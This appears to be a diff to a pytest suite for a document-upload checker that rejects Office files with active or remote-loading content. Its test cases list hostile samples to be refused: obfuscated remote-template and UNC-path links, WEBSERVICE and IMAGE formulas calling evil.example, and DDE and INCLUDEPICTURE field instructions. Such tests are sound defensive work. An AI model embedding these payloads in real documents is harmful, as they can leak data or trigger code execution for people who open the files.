@@ -2,8 +2,10 @@
 
 import hashlib
 import io
+import random
 import re
 import struct
+import time
 import zipfile
 import zlib
 
@@ -403,9 +405,30 @@ def test_an_archive_under_another_name_is_nested_all_the_same() -> None:
     assert code_of("a.docx", office("docx", ("word/media/image1.png", inner))) == "file_bomb"
 
 
-def test_a_directory_of_parts_is_not_read_when_it_is_huge(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(uploads, "_MAX_PARSED", 1_000)
-    assert code_of("a.docx", office("docx", types="<a/>" * 1_000)) == "file_bomb"
+def test_a_long_document_is_read_to_its_end_in_pieces(monkeypatch: pytest.MonkeyPatch) -> None:
+    pick = random.Random(1)
+    text = "".join(f"<w:p><w:r><w:t>第{n}条 {pick.random()}</w:t></w:r></w:p>" for n in range(220_000))
+    long = f'<w:document xmlns:w="w">{text}%s</w:document>'
+    assert len(long.encode()) > 10 * 1024 * 1024
+    content = archive(
+        ("[Content_Types].xml", types_part()), (MAIN["docx"], long % simple_field("PAGE"))
+    )  # fmt: skip
+    assert uploads.check("a.docx", content).content == content
+    hidden = archive(("[Content_Types].xml", types_part()), (MAIN["docx"], long % simple_field("dde excel")))
+    assert code_of("a.docx", hidden) == "file_active"
+
+
+def test_an_instruction_that_is_cut_between_two_pieces_is_read_whole(monkeypatch: pytest.MonkeyPatch) -> None:
+    data = field_part("ddeauto excel").encode()
+    for size in range(1, len(data)):
+        monkeypatch.setattr(uploads, "_PIECE", size)
+        assert code_of("a.docx", office("docx", ("word/a.xml", data))) == "file_active"
+
+
+def test_an_instruction_of_very_many_pieces_is_not_put_together() -> None:
+    started = time.monotonic()
+    uploads._check_content(field_part(*["a" * 10] * 300_000).encode())
+    assert time.monotonic() - started < 10  # a second; put together piece by piece it takes minutes
 
 
 @pytest.mark.parametrize(
@@ -468,6 +491,13 @@ def test_active_content_types_are_refused(kind: str) -> None:
                 ("attachedTemplate", "https://evil.example/a.dotm"),
                 ("attachedTemplate", "file://server/share/a.dotm"),
                 ("attachedTemplate", "\\\\server\\share\\a.dotm"),
+                ("attachedTemplate", "file:////server/share/a.dotm"),
+                ("attachedTemplate", "file:///%5C%5Cserver/share/a.dotm"),
+                ("attachedTemplate", "file:///a/..//server/share/a.dotm"),
+                ("attachedTemplate", "file://localhost//server/share/a.dotm"),
+                ("attachedTemplate", "%5C%5Cserver%5Cshare%5Ca.dotm"),
+                ("attachedTemplate", "http:evil.example"),
+                ("attachedTemplate", "share/a.dotm"),
                 ("image", "https://evil.example/a.png"),
                 ("image", "HTTP&#58;//evil.example/a.png"),
                 ("image", "file:///C:/a.png"),
@@ -495,6 +525,15 @@ def test_active_content_types_are_refused(kind: str) -> None:
             '<worksheet><f>_xlfn.WEBSERVICE ("https://evil.example")</f></worksheet>',
         ),
         ("xl/worksheets/sheet1.xml", '<worksheet><f>_xlfn.IMAGE("https://evil.example")</f></worksheet>'),
+        ("xl/worksheets/sheet1.xml", '<worksheet><f>W&#69;BSERVICE("https://evil.example")</f></worksheet>'),
+        (
+            "xl/worksheets/sheet1.xml",
+            '<x:worksheet xmlns:x="x"><x:f>WEB<!-- -->SERVICE(A1)</x:f></x:worksheet>',
+        ),
+        ("xl/styles.xml", '<w><definedName name="a">_xlfn.IMAGE("https://evil.example")</definedName></w>'),
+        ("xl/tables/table1.xml", "<t><calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula></t>"),
+        ("data/sheet.bin", '<worksheet><f>WEBSERVICE("https://evil.example")</f></worksheet>'),
+        ("text/main.xml", field_part(' INCLUDEPICTURE "https://evil.example/a.png"')),
     ],
 )
 def test_a_document_that_loads_from_elsewhere_is_refused(name: str, data: str) -> None:
@@ -508,6 +547,7 @@ def test_a_document_that_loads_from_elsewhere_is_refused(name: str, data: str) -
         field_part('HYPERLINK "https://npo.example/"'),
         simple_field("LINKED"),
         "<w>fld</w>",
+        "<worksheet><f>SUM(A1:A9)</f><is><t>WEBSERVICE(…) は使えません</t></is></worksheet>",
     ],
 )
 def test_ordinary_fields_are_everyday(data: str) -> None:
@@ -530,7 +570,15 @@ def test_browsers_offer_exactly_the_kinds_that_are_taken() -> None:
 
 @pytest.mark.parametrize(
     ("kind", "target"),
-    [("hyperlink", "https://npo.example/"), ("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")],
+    [
+        ("hyperlink", "https://npo.example/"),
+        ("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
+        ("attachedTemplate", "file:///Users/x/Library/My%20Templates/a.dotm"),
+        ("attachedTemplate", "file://localhost/Users/x/a.dotm"),
+        ("attachedTemplate", "Macintosh HD:Users:x:a.dotm"),
+        ("attachedTemplate", "Normal.dotm"),
+        ("attachedTemplate", "議事録のひな形.dotx"),
+    ],
 )
 def test_links_and_ones_own_template_are_everyday(kind: str, target: str) -> None:
     content = office("docx", ("word/_rels/a.rels", relations_part(f"{RELATIONS}/{kind}", target)))
